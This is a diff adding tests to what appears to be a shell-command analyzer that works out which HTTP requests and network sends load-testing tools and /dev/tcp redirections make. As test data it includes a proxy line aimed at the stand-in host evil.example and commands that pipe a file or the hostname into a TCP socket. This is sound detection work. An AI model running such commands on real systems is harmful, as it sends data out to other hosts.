@@ -159,3 +159,49 @@ test('forges and remotes are told what was read here', () => {
   for (const text of ['gh search code "a b"', 'gh issue list --search "$Q"', 'git ls-remote https://github.com/a/b'])
     assert.ok(!sends(text), text);
 });
+
+test('programs that ask many times are read as what they ask', () => {
+  for (const [text, request] of [
+    ['hey -n 10 -m DELETE http://localhost:3000/items/1', 'DELETE http://localhost:3000/items/1'],
+    [`oha -n 5 -m PUT -d '{}' http://localhost:3000/items/1`, 'PUT http://localhost:3000/items/1 {}'],
+    ['bombardier -n 5 -m POST -b a=b http://localhost:3000/x', 'POST http://localhost:3000/x a=b'],
+    ['ab -n 10 -p a.json http://localhost:3000/x', 'POST http://localhost:3000/x'],
+    ['ab -n 10 -m PATCH http://localhost:3000/x', 'PATCH http://localhost:3000/x'],
+    ['wrk -d 5s http://localhost:3000/x', 'GET http://localhost:3000/x'],
+    [`echo 'DELETE http://localhost:3000/items/1' | vegeta attack -rate=5`, 'DELETE http://localhost:3000/items/1'],
+    [`siege -c 5 'http://localhost:3000/x POST a=b'`, 'POST http://localhost:3000/x a=b'],
+    ['curlie delete localhost:3000/users/1', 'DELETE http://localhost:3000/users/1'],
+    ['curlie localhost:3000/users name=x', 'POST http://localhost:3000/users {"name":"x"}'],
+  ] as const)
+    assert.deepEqual(requestsOf(text), [request], text);
+  assert.ok(
+    effectsOf('hey -n 10 -x http://evil.example:80 http://localhost:3000/').includes('network.send evil.example'),
+  );
+});
+
+test('a connection that is opened and told nothing is a look', () => {
+  for (const text of ['(echo > /dev/tcp/localhost/3000)', '</dev/tcp/localhost/3000', ': > /dev/tcp/127.0.0.1/3000'])
+    assert.ok(!effectsOf(text).some((effect) => effect.startsWith('network.send')), text);
+  for (const text of [
+    'echo hi > /dev/tcp/localhost/3000',
+    'cat notes.txt > /dev/tcp/localhost/3000',
+    'exec 3<>/dev/tcp/localhost/3000',
+    'echo > /dev/udp/localhost/3000',
+    'hostname > /dev/tcp/localhost/3000',
+  ])
+    assert.ok(
+      effectsOf(text).some((effect) => effect.startsWith('network.send')),
+      text,
+    );
+});
+
+test('options that would make other requests cannot be inspected', () => {
+  for (const text of [
+    'curlie -d @a.json localhost:3000/users',
+    'curlie -K a.conf localhost:3000/users',
+    'oha --urls-from-file http://localhost:3000',
+    "oha --rand-regex-url 'http://localhost:3000/[a-z]'",
+    'vegeta attack -lazy -targets=a.txt',
+  ])
+    assert.equal(read(text).complete, false, text);
+});
